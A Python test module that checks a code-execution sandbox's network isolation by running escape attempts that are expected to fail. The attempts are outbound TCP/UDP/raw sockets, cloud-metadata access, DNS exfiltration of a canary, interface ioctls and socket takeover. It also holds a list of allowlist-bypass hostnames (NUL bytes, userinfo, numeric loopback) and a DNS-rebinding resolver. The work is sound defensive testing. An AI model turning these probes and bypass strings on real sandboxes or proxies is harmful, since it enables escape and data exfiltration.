"""Attacks on the network: out of an empty one, around an allowlist."""

# ruff: noqa: E501 - programs in other languages keep their lines

from __future__ import annotations

import contextlib
import functools
import re
import socket
import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import replace

import pytest
import trio

from executor import Request, Result, Status, network, open_engine
from executor.request import ANALYZE, Profile, ProjectAccess
from tests.escapes import layers_off as off
from tests.escapes.arena import Arena
from tests.escapes.attack import Attack, Control, Program, Stopped, Words, python
from tests.processes import DEADLINE_S

NO_FILTER = (off.seccomp,)
PUBLIC = "93.184.216.34"  # passes the check of addresses; never really dialled


@contextlib.contextmanager
def _listeners(arena: Arena) -> Iterator[Words]:
    """TCP and UDP on the host's loopback; what arrives is written down."""
    arrived: list[str] = []
    stop = threading.Event()
    with contextlib.ExitStack() as stack:
        tcp = stack.enter_context(socket.socket())
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        for listener in (tcp, udp):
            listener.bind(("127.0.0.1", 0))
            listener.settimeout(0.05)
        tcp.listen()

        def take() -> None:
            while not stop.is_set():
                with contextlib.suppress(TimeoutError):
                    tcp.accept()[0].close()
                    arrived.append("tcp")
                with contextlib.suppress(TimeoutError):
                    udp.recv(512)
                    arrived.append("udp")

        thread = threading.Thread(target=take)
        thread.start()
        try:
            _ARRIVED[arena.canary] = arrived
            yield {"tcp": str(tcp.getsockname()[1]), "udp": str(udp.getsockname()[1])}
        finally:
            stop.set()
            thread.join()
            del _ARRIVED[arena.canary]


_ARRIVED: dict[str, list[str]] = {}


def _nothing_arrived(arena: Arena, _: Result) -> None:
    assert not _ARRIVED[arena.canary]


def _something_arrived(arena: Arena, _: Result) -> None:
    deadline = time.monotonic() + DEADLINE_S
    while time.monotonic() < deadline:
        if {"tcp", "udp"} <= set(_ARRIVED[arena.canary]):
            return
        time.sleep(0.01)
    raise AssertionError(f"only {_ARRIVED[arena.canary]} arrived")


CONNECT = python("""
def tcp(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(2)
        client.connect(address)
def send(family, kind, protocol, address):
    with socket.socket(family, kind, protocol) as client:
        client.sendto(b"@canary@", address)
UDP = socket.SOCK_DGRAM
attempt("tcp loopback", tcp, socket.AF_INET, ("127.0.0.1", @tcp@))
attempt("tcp all", tcp, socket.AF_INET, ("0.0.0.0", @tcp@))
attempt("tcp out", tcp, socket.AF_INET, ("192.0.2.1", 80))
attempt("tcp metadata", tcp, socket.AF_INET, ("169.254.169.254", 80))
attempt("tcp 6", tcp, socket.AF_INET6, ("2001:db8::1", 80))
attempt("tcp 6 mapped", tcp, socket.AF_INET6, ("::ffff:127.0.0.1", @tcp@))
attempt("udp out", send, socket.AF_INET, UDP, 0, ("192.0.2.1", 53))
attempt("udp broadcast", send, socket.AF_INET, UDP, 0, ("255.255.255.255", 53))
attempt("udp 6", send, socket.AF_INET6, UDP, 0, ("ff02::1", 53))
attempt("icmp", send, socket.AF_INET, UDP, 1, ("192.0.2.1", 0))
attempt("raw", send, socket.AF_INET, socket.SOCK_RAW, 1, ("192.0.2.1", 0))
attempt("sctp", tcp, socket.AF_INET, ("192.0.2.1", 1)) if False else None
attempt("udp loopback", send, socket.AF_INET, UDP, 0, ("127.0.0.1", @udp@))
def fast_open():
    with socket.socket() as client:
        client.sendto(b"x", 0x20000000, ("192.0.2.1", 80))
attempt("tcp fast open", fast_open)
""").text.replace('attempt("sctp", tcp, socket.AF_INET, ("192.0.2.1", 1)) if False else None\n', "")
OUTWARD = ("tcp out", "tcp metadata", "tcp 6", "udp out", "udp broadcast", "udp 6", "icmp",
           "tcp fast open")  # fmt: skip
LOOPBACK = ("tcp loopback", "tcp all", "tcp 6 mapped")

DNS = python("""
def lookup():
    try:
        socket.getaddrinfo("@canary@.example.com", 80)
    except socket.gaierror as error:
        raise OSError(errno.EHOSTUNREACH, str(error))
attempt("lookup", lookup)
def query(port, address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6@canary@", (address, port))
attempt("by hand", query, 53, "8.8.8.8")
attempt("to the host", query, @udp@, "127.0.0.1")
def configuration():
    with open("/etc/resolv.conf") as file:
        if file.read() == "nameserver 127.0.0.1\\noptions timeout:1 attempts:1\\n":
            raise OSError(errno.ENOENT, "the cell's own")
attempt("resolver's configuration", configuration)
attempt("device", lambda: os.system("exec 3>/dev/udp/192.0.2.1/53") and kernel(-1))
def stream():
    with socket.socket() as client:
        client.settimeout(2)
        client.connect(("127.0.0.1", @tcp@))
attempt("over tcp", stream)
""")
INTERFACES = python("""
import fcntl
for name, family, kind in (("netlink", 16, 3), ("packet", 17, 3), ("alg", 38, 5), ("xdp", 44, 3),
                           ("bluetooth", 31, 3), ("can", 29, 3), ("tipc", 30, 1), ("rds", 21, 5),
                           ("nfc", 39, 3), ("vsock", 40, 1), ("key", 15, 3), ("smc", 43, 1),
                           ("kcm", 41, 2), ("qipcrtr", 42, 2)):
    attempt(name, socket.socket, family, kind)
    attempt(f"{name}, above 32 bits", kernel, NR.socket, 1 << 32 | family, kind, 0)
attempt("tun", os.open, "/dev/net/tun", os.O_RDWR)
def interface(request, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        fcntl.ioctl(control, request, payload)
attempt("take lo down", interface, 0x8914, struct.pack("16sh", b"lo", 0))
attempt("add address", interface, 0x8916, struct.pack("16sHH4s", b"lo", 2, 0, bytes([10, 0, 0, 1])))
attempt("add route", interface, 0x890B, bytes(120))
attempt("new bridge", interface, 0x89A0, b"br0" + bytes(13))
def bind_to(device):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        control.setsockopt(socket.SOL_SOCKET, 25, device)
attempt("bind to eth0", bind_to, b"eth0")
try:
    print("interfaces", socket.if_nameindex())
except OSError as error:
    print("interfaces", errno.errorcode[error.errno])
print("devices", [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
      if os.access("/proc/net/dev", os.R_OK) else "unreadable")
attempt("own pair", socket.socketpair)
""")
FAMILIES = ("netlink", "packet", "alg", "xdp", "vsock", "key")
PASSED = python("""
import array
for fd in range(0, 64):
    try:
        peer = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    print("socket at", fd)
    attempt(f"receive at {fd}", peer.recvmsg, 10, 100, socket.MSG_DONTWAIT)
ours, theirs = socket.socketpair()
def pass_on():
    socket.send_fds(ours, [b"x"], [os.open("/dev/null", os.O_RDONLY)])
    message, fds, _, _ = socket.recv_fds(theirs, 10, 1)
    print("passed", len(fds))
attempt("own", pass_on)
socket.send_fds(ours, [b"x"], [0])
print("stdin is", os.readlink("/proc/self/fd/0"))
""")


def _profile(*entries: str) -> Profile:
    return Profile("online", ProjectAccess.COPY_ON_WRITE, network.parse(entries))


async def _online(
    arena: Arena, entries: Sequence[str], program: Program, resolver: object = None
) -> Result:
    """Run it under a profile of these names, which `resolver` resolves."""
    gate = network.ProxyGate
    if resolver:
        gate = functools.partial(gate, resolver=resolver)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(network, "ProxyGate", gate)
        settings = replace(
            arena.settings, profiles={"analyze": ANALYZE, "online": _profile(*entries)}
        )
        async with open_engine(
            project=arena.project, state_dir=arena.state_dir, rules=None, home=arena.home,
            settings=settings,
        ) as executor:  # fmt: skip
            request = Request(program.language, arena.text(program), profile="online")
            with trio.fail_after(60):
                return (await executor.run(request)).result


async def ask_online(
    arena: Arena, entries: Sequence[str], program: Program, shows: Sequence[str]
) -> None:
    """Run it under a profile of these names, and look for what its output has to show."""
    result = await _online(arena, entries, program)
    if _is_refused_in_tier_b(arena, result):
        return
    for line in shows:
        assert re.search(line, result.stdout.text, re.MULTILINE), f"no {line} in\n{result}"


ASK_PROXY = """
import os, socket
proxy = os.environ.get("HTTPS_PROXY", os.environ.get("https_proxy", "http://127.0.0.1:3128"))
port = int(proxy.rstrip("/").rpartition(":")[2])
for name in @names@:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as client:
            client.sendall(f"CONNECT {name} HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode("latin-1"))
            answer = client.recv(100)
    except OSError as error:
        answer = type(error).__name__.encode()
    print(ascii(name), answer.split(b" ")[1][:3] if b" " in answer else answer, flush=True)
"""
TRICKS = (
    "evil.net\0.example.com:443", "example.com.evil.net:443", "evil.net#.example.com:443",
    "evil.net/.example.com:443", "evil.net\\.example.com:443", "evil.net?.example.com:443",
    "a.example.com.:443", "A.EXAMPLE.COM:443", "user@a.example.com:443",
    "a.example.com@evil.net:443", "evil.net%00.example.com:443", "evil.net%2e.example.com:443",
    "2130706433:443", "0x7f000001:443", "0177.0.0.1:443", "127.1:443", "127.0.0.1:443",
    "[::1]:443", "[::ffff:127.0.0.1]:443", "[::ffff:7f00:1]:443", "localhost:443",
    "xn--xample-9uf.com:443", "ex\xe4mple.com:443", "a.example.com:22", "a.example.com:0",
    "a.example.com:443:80", "a.example.com: 443", "a.example.com:+443", "a.example.com:0443x",
    "example.com:443", "..example.com:443", "-.example.com:443", " a.example.com:443",
    "a.example.com\t:443", "a.example.com", "*.example.com:443", "a..example.com:443",
)  # fmt: skip


def _asking(names: Sequence[str]) -> Program:
    text = python(ASK_PROXY).text.replace("@names@", repr(list(names)))
    return Program("python", text)


async def _answers(
    arena: Arena, entries: Sequence[str], names: Sequence[str], address: str
) -> Result:
    async def resolver(host: str, port: int) -> list[str]:
        return [address]

    return await _online(arena, entries, _asking(names), resolver)


def _is_refused_in_tier_b(arena: Arena, result: Result) -> bool:
    """Tier B can't give a network to one run alone: a profile that asks for it is refused."""
    if arena.tier != "B":
        return False
    assert result.status is Status.SANDBOX_UNAVAILABLE
    assert result.message
    return True


async def _names_are_read_strictly(arena: Arena) -> None:
    result = await _answers(arena, ["*.example.com"], TRICKS, "203.0.113.1")
    if _is_refused_in_tier_b(arena, result):
        return
    assert "attack started" in result.stdout.text
    answers = result.stdout.text.splitlines()[1:]
    assert len(answers) == len(TRICKS), result.stderr.text
    assert all(line.endswith(("b'403'", "b'400'")) for line in answers), answers
    assert not [c for c in result.connections if c.allowed]
    assert len(result.connections) > 20
    # The control: the plain name passes the check, and is only then refused for its address.
    result = await _answers(arena, ["*.example.com"], ["a.example.com:443"], "127.0.0.1")
    assert "not public" in result.connections[0].reason


async def _names_that_lead_inside_are_refused(arena: Arena) -> None:
    inside = ("127.0.0.1", "169.254.169.254", "10.0.0.1", "192.168.1.1", "::1", "fd00::1",
              "::ffff:127.0.0.1", "0.0.0.0", "100.64.0.1")  # fmt: skip
    for address in inside:
        result = await _answers(arena, ["*.example.com"], ["a.example.com:443"], address)
        if _is_refused_in_tier_b(arena, result):
            return
        assert "attack started" in result.stdout.text
        assert "b'403'" in result.stdout.text, address
        assert "not public" in result.connections[0].reason
    asked: list[str] = []

    async def rebinding(host: str, port: int) -> list[str]:
        """Public when it is checked, the host's loopback ever after."""
        asked.append(host)
        return [PUBLIC] if len(asked) == 1 else ["127.0.0.1"]

    dialled: list[str] = []

    async def dial(address: str, port: int, **_: object) -> trio.SocketStream:
        dialled.append(address)
        raise OSError("nobody there")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(trio, "open_tcp_stream", dial)
        result = await _online(arena, ["*.example.com"], _asking(["a.example.com:443"]), rebinding)
    # The control: it was dialled, at the address that was checked, and resolved just once.
    assert (dialled, asked) == ([PUBLIC], ["a.example.com"])


async def _an_empty_list_means_nothing(arena: Arena) -> None:
    result = await _answers(arena, [], ["a.example.com:443", "127.0.0.1:443"], "203.0.113.1")
    assert result.status is Status.OK, result.stderr.text
    assert "attack started" in result.stdout.text
    answers = result.stdout.text.splitlines()[1:]
    assert [a.rpartition(" ")[2] for a in answers] == (
        ["b'ConnectionRefusedError'"] * 2 if arena.tier != "B" else ["b'PermissionError'"] * 2
    )
    # The control: with one name in it there is somebody to ask.
    named = await _answers(arena, ["a.example.com"], ["b.example.com:443"], "203.0.113.1")
    if not _is_refused_in_tier_b(arena, named):
        assert "b'403'" in named.stdout.text


FORBIDDEN = "(ENETUNREACH|ECONNREFUSED|EPERM|EACCES|EADDRNOTAVAIL|ENETDOWN|EINVAL)"
ATTACKS = (
    Attack(
        "A74",
        "TCP, UDP, ICMP, raw sockets, IPv6, the host's loopback",
        Stopped(
            "network namespace, seccomp",
            (
                *(f"^{way} {FORBIDDEN}$" for way in OUTWARD if way != "icmp"),
                *(f"^{way} (ECONNREFUSED|ENETUNREACH)$" for way in LOOPBACK),
                "^icmp EPROTONOSUPPORT$",
                "^raw ESOCKTNOSUPPORT$",
            ),
            after=_nothing_arrived,
            controls=(
                Control(
                    ("^tcp loopback done$", "^udp loopback done$"),
                    outside="cell",
                    after=_something_arrived,
                ),
            ),
        ),
        Program("python", CONNECT),
        setup=_listeners,
        b=Stopped(
            "seccomp refuses every socket",
            (
                *(f"^{way} EACCES$" for way in (*OUTWARD, *LOOPBACK)),
                "^raw EACCES$",
                "^udp loopback EACCES$",
            ),
            after=_nothing_arrived,
            controls=(
                Control(("^udp loopback done$", "^tcp loopback EACCES$"), NO_FILTER),
                Control(
                    ("^tcp loopback done$", "^udp loopback done$"),
                    outside="cell",
                    after=_something_arrived,
                ),
            ),
        ),
    ),
    Attack(
        "A75",
        "carry data out in DNS queries",
        Stopped(
            "network namespace",
            (
                "^lookup EHOSTUNREACH$",
                f"^by hand {FORBIDDEN}$",
                "^resolver's configuration (ENOENT|EACCES)$",
            ),
            after=_nothing_arrived,
            controls=(
                Control(
                    ("^to the host done$", "^over tcp done$"),
                    outside="cell",
                    after=_something_arrived,
                ),
            ),
        ),
        DNS,
        setup=_listeners,
    ),
    Attack(
        "A76",
        "names that two programs read differently: NUL, userinfo, dots, numbers, punycode",
        Stopped("names are checked strictly, before resolution"),
        scenario=_names_are_read_strictly,
    ),
    Attack(
        "A77",
        "an allowed name that leads inside, or does so the second time",
        Stopped("the checked address is dialled"),
        scenario=_names_that_lead_inside_are_refused,
    ),
    Attack(
        "A78",
        "an empty allowlist",
        Stopped("an empty list allows nothing"),
        scenario=_an_empty_list_means_nothing,
    ),
    Attack(
        "A79",
        "netlink, packet and other families; TUN; interfaces, addresses, routes",
        Stopped(
            "seccomp, no capability, network namespace",
            (
                *(f"^{family} EAFNOSUPPORT$" for family in FAMILIES[1:]),
                *(f"^{family}, above 32 bits (EAFNOSUPPORT|EPERM)$" for family in FAMILIES[1:]),
                r"^interfaces (\[\(1, 'lo'\)\]|EAFNOSUPPORT)$",
                "^tun ENOENT$",
                "^take lo down EPERM$",
                "^add address EPERM$",
                "^add route EPERM$",
                "^new bridge EPERM$",
                "^bind to eth0 (ENODEV|EPERM)$",
                r"^devices \['lo'\]$",
            ),
            controls=(
                Control(
                    ("^packet (done|EPERM)$", "^own pair done$"),
                    NO_FILTER,
                ),
            ),
        ),
        INTERFACES,
        b=Stopped(
            "seccomp refuses every socket",
            (
                *(f"^{family} EACCES$" for family in FAMILIES),
                *(f"^{family}, above 32 bits EACCES$" for family in FAMILIES),
                "^tun (ENOENT|EACCES)$",
                "^take lo down EACCES$",
                "^bind to eth0 EACCES$",
            ),
            controls=(
                Control(
                    ("^netlink done$", "^netlink, above 32 bits done$", "^own pair done$"),
                    NO_FILTER,
                ),
            ),
        ),
    ),
    Attack(
        "A80",
        "a connected socket or a passed descriptor to take over",
        Stopped(
            "three descriptors, none a socket",
            ("^attack started$", "^stdin is (/dev/null|/memfd:.*)"),
            after=lambda _, result: _has_no_sockets(result),
            controls=(Control(("^own done$", "^passed 1$")),),
        ),
        PASSED,
    ),
)


def _has_no_sockets(result: Result) -> None:
    assert "socket at" not in result.stdout.text
